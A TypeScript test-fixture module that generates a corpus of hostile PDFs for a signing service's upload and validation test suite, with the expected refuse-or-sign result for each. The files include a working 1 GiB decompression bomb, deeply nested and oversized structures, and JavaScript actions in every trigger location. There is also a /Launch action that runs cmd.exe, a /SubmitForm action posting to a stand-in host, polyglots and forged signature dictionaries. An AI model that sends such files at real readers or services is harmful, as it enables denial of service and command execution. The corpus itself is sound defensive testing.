import zlib from "node:zlib";
import { generateDecompressionBombPdf, generateEncryptedPdf, generateJavaScriptPdf, generateTextPdf, truncate } from "./pdf-corpus.ts";

/**
 * Hostile PDFs for the upload → render → sign → validate suite, written byte by byte in code (no
 * binary fixtures): decompression bombs, huge object and page counts, lying or cyclic page trees,
 * deep nesting, polyglots, JavaScript and other actions in every place a reader looks for them,
 * and text that imitates a signature. Everything is deterministic and takes well under two seconds.
 */

/** An indirect object's body: a dictionary or other value, or a dictionary with its stream data. */
export type RawObject = string | { dictionary: string; data: Buffer };

const HEADER = Buffer.from("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", "latin1");

/**
 * A whole PDF with a classic cross-reference table: objects are numbered from 1 in order,
 * `/Root 1 0 R` unless `trailer` says otherwise. Streams get their /Length.
 */
export function writePdf(objects: readonly RawObject[], options: { trailer?: string; header?: Buffer } = {}): Buffer {
  const parts: Buffer[] = [options.header ?? HEADER];
  let length = parts[0]?.length ?? 0;
  const offsets: number[] = [];
  const append = (part: Buffer) => {
    parts.push(part);
    length += part.length;
  };
  for (const [index, object] of objects.entries()) {
    offsets.push(length);
    if (typeof object === "string") {
      append(Buffer.from(`${index + 1} 0 obj\n${object}\nendobj\n`, "latin1"));
    } else {
      const dictionary = object.dictionary.replace(/>>\s*$/, ` /Length ${object.data.length} >>`);
      append(Buffer.from(`${index + 1} 0 obj\n${dictionary}\nstream\n`, "latin1"));
      append(object.data);
      append(Buffer.from("\nendstream\nendobj\n", "latin1"));
    }
  }
  const xrefOffset = length;
  const lines = [`xref\n0 ${objects.length + 1}\n`, "0000000000 65535 f \n", ...offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`)];
  append(Buffer.from(lines.join(""), "latin1"));
  append(Buffer.from(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${options.trailer ?? ""}>>\nstartxref\n${xrefOffset}\n%%EOF\n`, "latin1"));
  return Buffer.concat(parts);
}

/** Text in a content stream, with the characters a PDF string must escape escaped. */
function pdfText(text: string): string {
  return text.replace(/[\\()]/g, (character) => `\\${character}`);
}

/**
 * One A4 page with a line of text. Objects 1–5 are catalog, page tree, page, content, font;
 * `extra` objects follow from number 6, so callers refer to them as `6 0 R`, `7 0 R`, …
 */
export function simplePdf(options: { catalog?: string; pages?: string; page?: string; content?: RawObject; extra?: RawObject[]; text?: string } = {}): Buffer {
  const content = options.content ?? { dictionary: "<< >>", data: Buffer.from(`BT /F1 18 Tf 72 760 Td (${pdfText(options.text ?? "Paraph hostile corpus")}) Tj ET`, "latin1") };
  return writePdf([
    `<< /Type /Catalog /Pages 2 0 R ${options.catalog ?? ""}>>`,
    options.pages ?? "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${options.page ?? ""}>>`,
    content,
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...(options.extra ?? []),
  ]);
}

const MEBIBYTE = 1024 * 1024;

/**
 * A zlib stream that inflates to `mebibytes` MiB of zeros while only ~1 KiB a MiB is stored:
 * one flushed block of a MiB of zeros compresses to the same bytes once the window is full of
 * zeros, so it is repeated, and the Adler-32 of n zeros (A = 1, B = n mod 65521) closes it.
 */
export async function zeroBomb(mebibytes: number): Promise<Buffer> {
  const deflate = zlib.createDeflate({ level: 9 });
  const output: Buffer[] = [];
  deflate.on("data", (chunk: Buffer) => output.push(chunk));
  const flushedMebibyte = async (): Promise<Buffer> => {
    deflate.write(Buffer.alloc(MEBIBYTE));
    await new Promise<void>((resolve) => deflate.flush(zlib.constants.Z_SYNC_FLUSH, () => resolve()));
    return Buffer.concat(output.splice(0));
  };
  const first = await flushedMebibyte();
  const second = await flushedMebibyte();
  const third = await flushedMebibyte();
  deflate.destroy();
  if (!second.equals(third)) throw new Error("zlib did not compress zeros into repeatable blocks");
  const end = Buffer.from([0x03, 0x00, 0, 0, 0, 0]); // an empty final fixed-Huffman block, then the checksum
  const total = mebibytes * MEBIBYTE;
  end.writeUInt32BE(((total % 65521) * 65536 + 1) >>> 0, 2);
  return Buffer.concat([first, ...Array.from({ length: mebibytes - 1 }, () => second), end]);
}

const GIBIBYTE_IN_MEBIBYTES = 1024;

function pageTree(count: number, kidsFrom: number): { pages: string; objects: RawObject[] } {
  const kids = Array.from({ length: count }, (_, index) => `${kidsFrom + index} 0 R`).join(" ");
  const objects = Array.from({ length: count }, () => "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>");
  return { pages: `<< /Type /Pages /Kids [${kids}] /Count ${count} >>`, objects };
}

/** A minimal ZIP archive (stored, no compression) holding one file, for polyglots. */
function zipWith(fileName: string, content: Buffer): Buffer {
  const name = Buffer.from(fileName, "latin1");
  const crc = zlib.crc32(content);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt32LE(crc, 14);
  local.writeUInt32LE(content.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt32LE(crc, 16);
  central.writeUInt32LE(content.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  const centralOffset = local.length + name.length + content.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + name.length, 12);
  end.writeUInt32LE(centralOffset, 16);
  return Buffer.concat([local, name, content, central, name, end]);
}

/**
 * What the API must do with a hostile file: refuse it with one of these codes, or either refuse
 * it with a code of the catalogue or take it and sign it as it would any PDF.
 */
export type HostileExpectation = { refuse: readonly string[] } | "refuse-or-sign";

export interface HostilePdf {
  name: string;
  bytes: Buffer;
  expect: HostileExpectation;
}

const JAVASCRIPT = "app.alert('Paraph corpus');";
const jsAction = `<< /S /JavaScript /JS (${JAVASCRIPT}) >>`;
const REFUSE_JAVASCRIPT = { refuse: ["document_has_javascript"] } as const;

export async function generateHostileCorpus(): Promise<HostilePdf[]> {
  const plain = simplePdf();
  const bomb = await zeroBomb(GIBIBYTE_IN_MEBIBYTES);
  const manyPages = pageTree(100_000, 6);
  const corpus: HostilePdf[] = [
    // Page trees that lie or loop.
    { name: "/Count of a million over one page", bytes: simplePdf({ pages: "<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>" }), expect: "refuse-or-sign" },
    { name: "/Count of one over three pages", bytes: simplePdf({ pages: "<< /Type /Pages /Kids [3 0 R 3 0 R 3 0 R] /Count 1 >>" }), expect: "refuse-or-sign" },
    { name: "negative /Count", bytes: simplePdf({ pages: "<< /Type /Pages /Kids [3 0 R] /Count -5 >>" }), expect: "refuse-or-sign" },
    { name: "/Kids naming its own page tree", bytes: simplePdf({ pages: "<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>" }), expect: "refuse-or-sign" },
    {
      name: "two page trees naming each other as /Kids",
      bytes: simplePdf({ pages: "<< /Type /Pages /Kids [6 0 R] /Count 1 >>", extra: ["<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>"] }),
      expect: "refuse-or-sign",
    },
    {
      name: "/Parent chain that loops",
      bytes: simplePdf({ pages: "<< /Type /Pages /Parent 6 0 R /Kids [3 0 R] /Count 1 >>", extra: ["<< /Type /Pages /Parent 2 0 R /Kids [] /Count 0 >>"] }),
      expect: "refuse-or-sign",
    },
    { name: "page that is its own /Parent", bytes: simplePdf({ page: "/Parent 3 0 R" }), expect: "refuse-or-sign" },
    // Protected and damaged.
    { name: "encrypted", bytes: Buffer.from(await generateEncryptedPdf()), expect: { refuse: ["document_encrypted"] } },
    { name: "truncated at 60 %", bytes: Buffer.from(truncate(await generateTextPdf({ pageCount: 3 }), 0.6)), expect: { refuse: ["document_corrupt"] } },
    { name: "header only", bytes: Buffer.from("%PDF-1.7\n"), expect: { refuse: ["document_corrupt", "document_not_pdf"] } },
    // Polyglots: a PDF inside or after something else, and something else after a PDF.
    { name: "PDF stored inside a ZIP archive", bytes: zipWith("contract.pdf", plain), expect: "refuse-or-sign" },
    { name: "HTML page with a PDF after it", bytes: Buffer.concat([Buffer.from("<!doctype html><html><body><script>alert(1)</script></body></html>\n"), plain]), expect: "refuse-or-sign" },
    { name: "JPEG header with a PDF after it", bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10, 0x4a, 0x46, 0x49, 0x46, 0x00, 0x01]), Buffer.alloc(64, 0x20), plain]), expect: "refuse-or-sign" },
    { name: "PDF header after 4 KiB of junk", bytes: Buffer.concat([Buffer.alloc(4096, "junk "), plain]), expect: "refuse-or-sign" },
    { name: "PDF with a ZIP archive appended", bytes: Buffer.concat([plain, zipWith("payload.html", Buffer.from("<script>alert(1)</script>"))]), expect: "refuse-or-sign" },
    // JavaScript wherever a reader runs it.
    { name: "JavaScript: catalog /OpenAction inline", bytes: simplePdf({ catalog: `/OpenAction ${jsAction}` }), expect: REFUSE_JAVASCRIPT },
    { name: "JavaScript: catalog /OpenAction indirect", bytes: simplePdf({ catalog: "/OpenAction 6 0 R", extra: [jsAction] }), expect: REFUSE_JAVASCRIPT },
    { name: "JavaScript: indirect action in an object stream", bytes: Buffer.from(await generateJavaScriptPdf()), expect: REFUSE_JAVASCRIPT },
    { name: "JavaScript: /JS as a stream", bytes: simplePdf({ catalog: "/OpenAction << /S /JavaScript /JS 6 0 R >>", extra: [{ dictionary: "<< >>", data: Buffer.from(JAVASCRIPT) }] }), expect: REFUSE_JAVASCRIPT },
    { name: "JavaScript: /Names tree inline", bytes: simplePdf({ catalog: `/Names << /JavaScript << /Names [(init) ${jsAction}] >> >>` }), expect: REFUSE_JAVASCRIPT },
    { name: "JavaScript: /Names tree indirect", bytes: simplePdf({ catalog: "/Names 6 0 R", extra: ["<< /JavaScript 7 0 R >>", "<< /Names [(init) 8 0 R] >>", jsAction] }), expect: REFUSE_JAVASCRIPT },
    { name: "JavaScript: catalog /AA (before close)", bytes: simplePdf({ catalog: `/AA << /WC ${jsAction} >>` }), expect: REFUSE_JAVASCRIPT },
    { name: "JavaScript: page /AA (on open)", bytes: simplePdf({ page: `/AA << /O ${jsAction} >>` }), expect: REFUSE_JAVASCRIPT },
    { name: "JavaScript: link annotation inline /A", bytes: simplePdf({ page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A ${jsAction} >>]` }), expect: REFUSE_JAVASCRIPT },
    {
      name: "JavaScript: widget annotation /AA indirect",
      bytes: simplePdf({ page: "/Annots [6 0 R]", extra: ["<< /Type /Annot /Subtype /Widget /Rect [72 600 300 630] /FT /Tx /T (name) /AA << /K 7 0 R >> >>", jsAction] }),
      expect: REFUSE_JAVASCRIPT,
    },
    {
      name: "JavaScript: XFA form with a script",
      bytes: simplePdf({
        catalog: "/AcroForm << /Fields [] /XFA [(template) 6 0 R] >>",
        extra: [{ dictionary: "<< >>", data: Buffer.from('<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><event activity="initialize"><script contentType="application/x-javascript">app.alert(1)</script></event></subform></template>') }],
      }),
      // No AcroForm field stands for its pages: an XFA-only form, refused as such.
      expect: { refuse: ["document_has_javascript", "document_xfa_only"] },
    },
    // Other actions that reach outside the document.
    { name: "/Launch action", bytes: simplePdf({ catalog: "/OpenAction << /S /Launch /F (calc.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>" }), expect: "refuse-or-sign" },
    {
      name: "/SubmitForm action",
      bytes: simplePdf({ page: "/Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 300 730] /A << /S /SubmitForm /F << /FS /URL /F (https://collector.example/submit) >> >> >>]" }),
      expect: "refuse-or-sign",
    },
    { name: "/ImportData action", bytes: simplePdf({ catalog: "/OpenAction << /S /ImportData /F (data.fdf) >>" }), expect: "refuse-or-sign" },
    // Things that imitate structure.
    { name: "stray '99999999 0 obj' after %%EOF", bytes: Buffer.concat([plain, Buffer.from("99999999 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /Launch /F (x) >> >>\nendobj\n")]), expect: "refuse-or-sign" },
    { name: "fake byte range in the page text", bytes: simplePdf({ text: "/Type /Sig /ByteRange [0 10 20 30] /Contents <3082>" }), expect: "refuse-or-sign" },
    {
      name: "unreferenced signature dictionary with a fake byte range",
      bytes: simplePdf({ extra: ["<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached /ByteRange [0 10 20 30] /Contents <3082> /Name (Mallory) >>"] }),
      expect: "refuse-or-sign",
    },
    // Last, the heaviest: sheer size, depth and decompression bombs (an API that chokes on them
    // must not take the verdicts of the files above with it).
    // Sheer size of structure.
    { name: "300 000 small objects", bytes: simplePdf({ extra: Array.from({ length: 300_000 }, (_, index) => `<< /I ${index} >>`) }), expect: "refuse-or-sign" },
    { name: "100 000 page objects", bytes: simplePdf({ pages: manyPages.pages, extra: manyPages.objects }), expect: { refuse: ["document_too_many_pages"] } },
    // Nesting 100 000 deep.
    { name: "arrays nested 100 000 deep", bytes: simplePdf({ page: `/Deep ${"[".repeat(100_000)}${"]".repeat(100_000)}` }), expect: "refuse-or-sign" },
    { name: "dictionaries nested 100 000 deep", bytes: simplePdf({ catalog: `/Deep ${"<< /A ".repeat(100_000)}${">> ".repeat(100_000)}` }), expect: "refuse-or-sign" },
    // Decompression bombs: ~1 MiB stored, 1 GiB once inflated.
    { name: "content stream inflating to 1 GiB", bytes: simplePdf({ content: { dictionary: "<< /Filter /FlateDecode >>", data: bomb } }), expect: "refuse-or-sign" },
    {
      name: "page resource stream inflating to 1 GiB",
      bytes: simplePdf({ page: "/Thumb 6 0 R", extra: [{ dictionary: "<< /Filter /FlateDecode >>", data: bomb }] }),
      expect: "refuse-or-sign",
    },
    { name: "image declaring 40000 × 40000 pixels", bytes: Buffer.from(await generateDecompressionBombPdf()), expect: "refuse-or-sign" },
    {
      name: "object stream inflating to 1 GiB",
      bytes: simplePdf({ extra: [{ dictionary: "<< /Type /ObjStm /N 1 /First 6 /Filter /FlateDecode >>", data: bomb }] }),
      expect: "refuse-or-sign",
    },
  ];
  return corpus;
}
